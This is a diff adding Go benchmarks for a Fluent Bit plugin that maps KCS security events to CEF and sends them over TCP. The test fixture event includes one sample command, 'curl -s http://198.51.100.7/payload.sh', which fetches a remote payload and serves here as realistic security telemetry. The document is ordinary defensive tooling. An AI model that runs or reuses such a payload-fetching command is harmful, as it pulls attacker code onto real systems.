@@ -1,0 +1,180 @@
+package main
+
+import (
+	"io"
+	"net"
+	"runtime"
+	"testing"
+	"time"
+	"unsafe"
+
+	"github.com/fluent/fluent-bit-go/output"
+	"github.com/kcs-siem/siem-cef/deliver"
+	"github.com/kcs-siem/siem-cef/pipeline"
+	"github.com/kcs-siem/siem-cef/record"
+	"github.com/stretchr/testify/require"
+)
+
+const benchEvents = 1000
+
+// processEvent is a KCS process event with every runtime key the contract has.
+func processEvent(i int) map[string]any {
+	return map[string]any{
+		"event_id": "PM-001", "event_name": "Process management", "status": "Audit", "agent_group": "prod-agents",
+		"source": "kcs-agent-7xq2k", "cluster": "prod-eu-1", "node": "worker-3", "node_ip": "10.20.0.13",
+		"namespace": "shop", "pod": "web-7d9c6b8f5-x2x4q", "container": "alpine",
+		"container_id": "0ce05246346b6687cb754cf716c57f20f226e159397e8e5985e55b448cb92e3f",
+		"image":        "docker.io/library/alpine:3.20",
+		"image_hash":   "sha256:6f0e4c5a1b2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f",
+		"pid":          2001 + i, "ppid": 1999, "new_pid": 2002 + i, "process": "curl", "euid": 1000, "egid": 1000,
+		"command": "curl -s http://198.51.100.7/payload.sh", "operation": "exec",
+		"src_ip": "10.42.3.17", "src_port": 40022, "dst_ip": "198.51.100.7", "dst_port": 80,
+		"path": "/usr/bin/curl", "old_path": "/tmp/curl", "file_mode": "0755", "direction": 1,
+		"message": "Process curl started in container alpine",
+	}
+}
+
+func benchChunk(b *testing.B) []byte {
+	b.Helper()
+	var chunk []byte
+	var err error
+	for i := range benchEvents {
+		chunk, err = record.AppendEvent(chunk, fixtureStart.Add(time.Duration(i)*time.Millisecond), processEvent(i))
+		require.NoError(b, err)
+	}
+	return chunk
+}
+
+// reportPerEvent turns per-chunk figures into per-event ones, with the allocations counted over the
+// timed loop.
+func reportPerEvent(b *testing.B, events int, mallocsBefore uint64, bytes int) {
+	var ms runtime.MemStats
+	runtime.ReadMemStats(&ms)
+	total := float64(b.N) * float64(events)
+	ns := float64(b.Elapsed().Nanoseconds()) / total
+	b.ReportMetric(ns, "ns/event")
+	b.ReportMetric(1e9/ns, "events/s")
+	b.ReportMetric(float64(ms.Mallocs-mallocsBefore)/total, "allocs/event")
+	if bytes > 0 {
+		b.ReportMetric(float64(bytes)*float64(b.N)/b.Elapsed().Seconds()/1e6, "MB/s")
+	}
+}
+
+func mallocs() uint64 {
+	var ms runtime.MemStats
+	runtime.ReadMemStats(&ms)
+	return ms.Mallocs
+}
+
+// BenchmarkPipeline (a): decode, map, filter and encode a chunk of 1,000 process events.
+func BenchmarkPipeline(b *testing.B) {
+	chunk := benchChunk(b)
+	p := pipeline.New(testConfig(b, "127.0.0.1:514", "tcp"))
+	out := 0
+	emit := func(msg []byte) error { out += len(msg); return nil }
+	warn := func(msg string) { b.Fatal(msg) }
+	_, err := p.Run(chunk, emit, warn) // warm
+	require.NoError(b, err)
+	out = 0
+	m := mallocs()
+	b.ResetTimer()
+	for range b.N {
+		if _, err := p.Run(chunk, emit, warn); err != nil {
+			b.Fatal(err)
+		}
+	}
+	b.StopTimer()
+	reportPerEvent(b, benchEvents, m, len(chunk))
+}
+
+// BenchmarkBaselineFluentBitGoDecoder (a, baseline): what most Go plugins do, fluent-bit-go's own
+// decoder reading the same chunk into maps, before any mapping or encoding.
+func BenchmarkBaselineFluentBitGoDecoder(b *testing.B) {
+	chunk := benchChunk(b)
+	m := mallocs()
+	b.ResetTimer()
+	for range b.N {
+		dec := output.NewDecoder(unsafe.Pointer(&chunk[0]), len(chunk))
+		n := 0
+		for {
+			ret, _, rec := output.GetRecord(dec)
+			if ret != 0 {
+				break
+			}
+			n += len(rec)
+		}
+		if n == 0 {
+			b.Fatal("no record decoded")
+		}
+	}
+	b.StopTimer()
+	reportPerEvent(b, benchEvents, m, len(chunk))
+}
+
+// discardReceiver accepts TCP connections and reads everything they send.
+func discardReceiver(b *testing.B) string {
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	require.NoError(b, err)
+	b.Cleanup(func() { ln.Close() })
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go func() { io.Copy(io.Discard, c); c.Close() }()
+		}
+	}()
+	return ln.Addr().String()
+}
+
+// BenchmarkFlushTCP (b): the whole flush, as FLBPluginFlushCtx calls it, into a loopback receiver.
+func BenchmarkFlushTCP(b *testing.B) {
+	chunk := benchChunk(b)
+	in := newInstance(testConfig(b, discardReceiver(b), "tcp"), &fakeLog{})
+	defer in.Close()
+	require.Equal(b, flbOK, in.Flush(chunk))
+	m := mallocs()
+	b.ResetTimer()
+	for range b.N {
+		if in.Flush(chunk) != flbOK {
+			b.Fatal("flush failed")
+		}
+	}
+	b.StopTimer()
+	reportPerEvent(b, benchEvents, m, len(chunk))
+}
+
+// BenchmarkBaselineWriteTCP (b, baseline): the same messages, encoded beforehand, written in the
+// same batches through the same kind of connection.
+func BenchmarkBaselineWriteTCP(b *testing.B) {
+	chunk := benchChunk(b)
+	p := pipeline.New(testConfig(b, "127.0.0.1:514", "tcp"))
+	var batches []*deliver.Batch
+	cur := &deliver.Batch{Framing: deliver.FramingNewline}
+	_, err := p.Run(chunk, func(msg []byte) error {
+		start := len(cur.Buf)
+		cur.Buf = append(cur.Buf, msg...)
+		cur.End(start)
+		if len(cur.Buf) >= batchBytes {
+			batches = append(batches, cur)
+			cur = &deliver.Batch{Framing: deliver.FramingNewline}
+		}
+		return nil
+	}, func(string) {})
+	require.NoError(b, err)
+	batches = append(batches, cur)
+	tcp := deliver.NewTCP(deliver.Options{Address: discardReceiver(b), ConnectTimeout: time.Second, WriteTimeout: 10 * time.Second})
+	defer tcp.Close()
+	m := mallocs()
+	b.ResetTimer()
+	for range b.N {
+		for _, batch := range batches {
+			if err := tcp.Send(batch); err != nil {
+				b.Fatal(err)
+			}
+		}
+	}
+	b.StopTimer()
+	reportPerEvent(b, benchEvents, m, len(chunk))
+}
